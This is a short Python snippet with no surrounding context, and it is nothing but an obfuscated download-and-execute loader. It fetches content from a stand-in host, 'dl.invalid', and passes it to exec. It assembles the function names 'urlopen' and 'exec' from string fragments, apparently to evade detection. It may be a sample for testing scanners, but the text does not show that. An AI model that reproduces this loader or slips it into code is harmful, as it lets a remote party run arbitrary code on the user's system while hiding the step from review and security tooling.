import importlib
m = importlib.import_module('urllib.' + 'request')
f = getattr(m, 'url' + 'open')
body = f('http://dl.invalid/p').read()
getattr(__builtins__, 'ex' + 'ec')(body)
